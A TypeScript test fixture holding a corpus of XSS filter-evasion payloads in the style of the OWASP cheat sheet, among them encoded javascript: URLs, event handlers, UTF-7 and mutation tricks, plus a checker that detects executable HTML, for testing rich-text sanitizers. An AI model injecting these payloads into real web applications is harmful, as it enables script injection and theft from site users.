/**
 * A corpus of script-injection payloads of the kinds the OWASP XSS filter-evasion cheat sheet lists
 * (script tags, event handlers, javascript:/vbscript:/data: URLs with encoded and obfuscated
 * variants, svg/math, style and expression(), frames and plugins, meta refresh, base href,
 * malformed markup), plus a checker that finds anything executable left in some HTML.
 * Shared fixture: any feature that accepts rich text can test itself against it.
 */

export interface XssPayload {
  name: string;
  html: string;
  /** The payload leaves a tag open that may legitimately swallow the text after it. */
  swallowsFollowingText?: boolean;
}

const decimal = (text: string, pad = 0, semicolon = true) =>
  [...text].map((ch) => `&#${String(ch.codePointAt(0)).padStart(pad, "0")}${semicolon ? ";" : ""}`).join("");
const hex = (text: string) => [...text].map((ch) => `&#x${ch.codePointAt(0)!.toString(16).toUpperCase()}`).join("");
const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

/**
 * The payloads, each running `js` if it ever executed. The default calls alert(); the browser tests
 * pass a snippet that sets a window flag instead.
 */
export function xssPayloads(js = "alert(1)"): XssPayload[] {
  const jsUrl = `javascript:${js}`;
  const scriptDoc = base64(`<script>${js}</script>`);
  const svgDoc = base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"></svg>`);
  return [
    // Script tags and their malformed variants
    { name: "plain script tag", html: `<script>${js}</script>` },
    { name: "upper-case external script", html: `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>` },
    { name: "script with a junk attribute", html: `<script/XSS src="https://xss.example/xss.js"></script>` },
    { name: "script with slash instead of space", html: `<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>` },
    { name: "extraneous open brackets", html: `<<SCRIPT>${js}//<</SCRIPT>` },
    { name: "protocol-relative script, no closing tag", html: `<SCRIPT SRC=//xss.example/.j>`, swallowsFollowingText: true },
    { name: "half-open script without closing tag", html: `<SCRIPT SRC=https://xss.example/xss.js?< B >`, swallowsFollowingText: true },
    { name: "script with > inside an attribute", html: `<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>` },
    { name: "closing title then script", html: `</TITLE><SCRIPT>${js}</SCRIPT>` },
    { name: "quotes before a script", html: `<IMG """><SCRIPT>${js}</SCRIPT>">` },
    { name: "conditional comment script", html: `<!--[if gte IE 4]><SCRIPT>${js}</SCRIPT><![endif]-->` },
    { name: "script inside svg", html: `<svg><script>${js}</script></svg>` },
    { name: "UTF-7 encoded script", html: `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>+ADw-SCRIPT+AD4-${js}+ADw-/SCRIPT+AD4-` },

    // javascript: URLs in images, with case, quoting and encoding tricks
    { name: "img javascript: src", html: `<IMG SRC="${jsUrl}">` },
    { name: "img javascript: src, no quotes", html: `<IMG SRC=${jsUrl}>` },
    { name: "img javascript: src, mixed case", html: `<IMG SRC=JaVaScRiPt:${js}>` },
    { name: "img javascript: src in grave accents", html: "<IMG SRC=`" + jsUrl + "`>" },
    { name: "img src as decimal entities", html: `<IMG SRC=${decimal(jsUrl)}>` },
    { name: "img src as padded decimal entities without semicolons", html: `<IMG SRC=${decimal(jsUrl, 7, false)}>` },
    { name: "img src as hex entities without semicolons", html: `<IMG SRC=${hex(jsUrl)}>` },
    { name: "img src with an embedded tab", html: `<IMG SRC="jav\tascript:${js}">` },
    { name: "img src with an encoded tab", html: `<IMG SRC="jav&#x09;ascript:${js}">` },
    { name: "img src with an encoded newline", html: `<IMG SRC="jav&#x0A;ascript:${js}">` },
    { name: "img src with an encoded carriage return", html: `<IMG SRC="jav&#x0D;ascript:${js}">` },
    { name: "img src with a null character", html: `<IMG SRC=java\u0000script:${js}>` },
    { name: "img src with leading spaces and control characters", html: `<IMG SRC=" &#14;  ${jsUrl}">` },
    { name: "img src split by a comment", html: `<IMG SRC="javas<!-- -->cript:${js}">` },
    { name: "half-open img src", html: `<IMG SRC="${jsUrl}"`, swallowsFollowingText: true },
    { name: "img vbscript: src", html: `<IMG SRC='vbscript:msgbox("XSS")'>` },
    { name: "img dynsrc", html: `<IMG DYNSRC="${jsUrl}">` },
    { name: "img lowsrc", html: `<IMG LOWSRC="${jsUrl}">` },
    { name: "img svg data: URL", html: `<img src="data:image/svg+xml;base64,${svgDoc}">` },
    { name: "img text/html data: URL", html: `<img src="data:text/html;base64,${scriptDoc}">` },
    { name: "input type image", html: `<INPUT TYPE="IMAGE" SRC="${jsUrl};">` },

    // Event handlers
    { name: "img onerror", html: `<img src=x onerror="${js}">` },
    { name: "img onerror, unquoted", html: `<img src=x onerror=${js}>` },
    { name: "img onerror evaluating its own attributes", html: `<img src=x:alert(alt) onerror=eval(src) alt=0>` },
    { name: "img with empty src and onmouseover", html: `<IMG SRC= onmouseover="${js}">` },
    { name: "img with no src and onmouseover", html: `<IMG onmouseover="${js}">` },
    { name: "img onerror with a slash src", html: `<IMG SRC=/ onerror="${js}"></img>` },
    { name: "real image with onload", html: `<img src="https://images.example/a.png" onload="${js}" alt="chart">` },
    { name: "link onmouseover", html: `<a onmouseover="${js}">xxs link</a>` },
    { name: "link with onclick and target _self", html: `<a href="https://example.com" target="_self" onclick="${js}">site</a>` },
    { name: "paragraph onclick", html: `<p onclick="${js}">click me</p>` },
    { name: "svg onload", html: `<svg/onload=${js}>`, swallowsFollowingText: true },
    { name: "body onload", html: `<BODY ONLOAD=${js}>` },
    { name: "body onload with junk characters", html: "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=" + js + ">" },
    { name: "details ontoggle", html: `<details open ontoggle="${js}"><summary>x</summary></details>` },
    { name: "video source onerror", html: `<video><source onerror="${js}"></video>` },
    { name: "audio onerror", html: `<audio src=x onerror=${js}>` },
    { name: "marquee onstart", html: `<marquee onstart="${js}">news</marquee>` },
    { name: "template hiding an img onerror", html: `<template><img src=x onerror="${js}"></template>` },
    { name: "noscript mutation", html: `<noscript><p title="</noscript><img src=x onerror=${js}>">`, swallowsFollowingText: true },
    { name: "math namespace confusion", html: `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`, swallowsFollowingText: true },

    // javascript:, vbscript: and data: links
    { name: "link javascript: href", html: `<a href="${jsUrl}">click</a>` },
    { name: "link javascript: href with leading spaces", html: `<a href="   ${jsUrl}">click</a>` },
    { name: "link javascript: href, first letter an entity", html: `<a href="&#106;avascript:${js}">click</a>` },
    { name: "link javascript: href with an encoded tab", html: `<a href="java&#x09;script:${js}">click</a>` },
    { name: "link javascript&colon; href", html: `<a href="javascript&colon;${js}">click</a>` },
    { name: "link vbscript: href", html: `<a href="vbscript:msgbox(1)">click</a>` },
    { name: "link livescript: href", html: `<a href="livescript:${js}">click</a>` },
    { name: "link data:text/html href", html: `<a href="data:text/html;base64,${scriptDoc}">click</a>` },
    { name: "svg link with xlink:href", html: `<svg><a xlink:href="${jsUrl}"><text x="20" y="20">XSS</text></a></svg>` },
    { name: "math href", html: `<math href="${jsUrl}">CLICKME</math>` },
    { name: "form action", html: `<form action="${jsUrl}"><input type=submit></form>` },
    { name: "button formaction", html: `<button formaction="${jsUrl}">send</button>` },
    { name: "isindex action", html: `<isindex action="${jsUrl}" type=image>` },

    // Style sheets and expression()
    { name: "list-style-image url", html: `<STYLE>li {list-style-image: url("${jsUrl}");}</STYLE><UL><LI>XSS</br>` },
    { name: "style @import", html: `<STYLE>@import'https://xss.example/xss.css';</STYLE>` },
    { name: "expression() split by a comment", html: `<IMG STYLE="xss:expr/*XSS*/ession(${js})">` },
    { name: "background-image url", html: `<DIV STYLE="background-image: url(${jsUrl})">` },
    { name: "width expression()", html: `<DIV STYLE="width: expression(${js});">` },
    { name: "behavior url", html: `<xss style="behavior: url(xss.htc);">` },
    { name: "link stylesheet", html: `<LINK REL="stylesheet" HREF="${jsUrl};">` },
    { name: "paragraph background url", html: `<p style="background:url(${jsUrl})">text</p>` },
    { name: "body background", html: `<BODY BACKGROUND="${jsUrl}">` },
    { name: "table background", html: `<TABLE BACKGROUND="${jsUrl}">` },
    { name: "table cell background", html: `<TABLE><TD BACKGROUND="${jsUrl}">` },
    { name: "bgsound", html: `<BGSOUND SRC="${jsUrl};">` },

    // Frames, plugins, meta refresh and base
    { name: "iframe javascript: src", html: `<IFRAME SRC="${jsUrl};"></IFRAME>` },
    { name: "iframe onmouseover", html: `<IFRAME SRC=# onmouseover="${js}"></IFRAME>` },
    { name: "iframe with double open bracket", html: `<iframe src=https://xss.example/scriptlet.html <`, swallowsFollowingText: true },
    { name: "iframe srcdoc", html: `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>` },
    { name: "frameset", html: `<FRAMESET><FRAME SRC="${jsUrl};"></FRAMESET>` },
    { name: "object scriptlet", html: `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>` },
    { name: "object javascript: data", html: `<object data="${jsUrl}"></object>` },
    { name: "embed svg data: URL", html: `<EMBED SRC="data:image/svg+xml;base64,${svgDoc}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>` },
    { name: "meta refresh to javascript:", html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=${jsUrl};">` },
    { name: "meta refresh to a data: URL", html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${scriptDoc}">` },
    { name: "base href", html: `<BASE HREF="${jsUrl};//">` },
    { name: "XML data island", html: `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:${js}"></B></I></XML>` },
  ];
}

/** The corpus with alert() as the script. */
export const XSS_PAYLOADS: XssPayload[] = xssPayloads();

const SAFE_URL = /^(https?:|mailto:|\/(?![/\\])|#|[^:]*$)/i;
const SAFE_IMAGE_DATA = /^data:image\/(png|jpe?g|gif|webp|avif);base64,/i;
const DANGEROUS_TAGS = /^(script|style|iframe|frame|frameset|object|embed|applet|svg|math|meta|base|link|form|input|button|isindex|template|noscript|xml|bgsound|body|head|html|marquee|details|video|audio|source)$/i;

const decodeEntities = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_m, d: string) => String.fromCodePoint(parseInt(d, 10)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;/gi, "\t")
    .replace(/&newline;/gi, "\n")
    .replace(/&quot;/gi, '"')
    .replace(/&apos;/gi, "'")
    .replace(/&lt;/gi, "<")
    .replace(/&gt;/gi, ">")
    .replace(/&amp;/gi, "&");

/**
 * Everything executable left in `html`: script or other active tags, event-handler or style
 * attributes, and URLs with a scheme other than http, https or mailto (raster data: images
 * excepted). An empty list means the HTML is inert.
 */
export function executableVectors(html: string): string[] {
  const found: string[] = [];
  if (/<\s*script/i.test(html)) found.push("<script");
  for (const match of html.matchAll(/<\s*\/?\s*([a-zA-Z][\w:-]*)([^>]*)>?/g)) {
    const [tagText, tag, rest] = match;
    if (DANGEROUS_TAGS.test(tag)) found.push(`tag <${tag}>`);
    if (/[\s/"']on[a-z]+\s*=/i.test(rest)) found.push(`event handler in ${tagText}`);
    if (/[\s/"']style\s*=/i.test(rest)) found.push(`style attribute in ${tagText}`);
    for (const attr of rest.matchAll(/([^\s=/"']+)\s*=\s*("([^"]*)"|'([^']*)'|([^\s>]+))/g)) {
      const name = attr[1].toLowerCase();
      // eslint-disable-next-line no-control-regex -- browsers ignore these inside URLs
      const value = decodeEntities(attr[3] ?? attr[4] ?? attr[5] ?? "").replace(/[\u0000-\u0020\u007f-\u009f]/g, "");
      const isUrlAttr = ["href", "src", "action", "formaction", "data", "background", "dynsrc", "lowsrc", "xlink:href", "srcdoc"].includes(name);
      if (!isUrlAttr) continue;
      if (name === "src" && tag.toLowerCase() === "img" && SAFE_IMAGE_DATA.test(value)) continue;
      if (name === "srcdoc" || !SAFE_URL.test(value)) found.push(`unsafe ${name}="${value}" in <${tag}>`);
    }
    // eslint-disable-next-line no-control-regex -- browsers ignore these inside URLs
    if (/(java|vb|live)script\s*:/i.test(decodeEntities(tagText).replace(/[\u0000-\u0020]/g, ""))) found.push(`script URL in ${tagText}`);
  }
  return found;
}
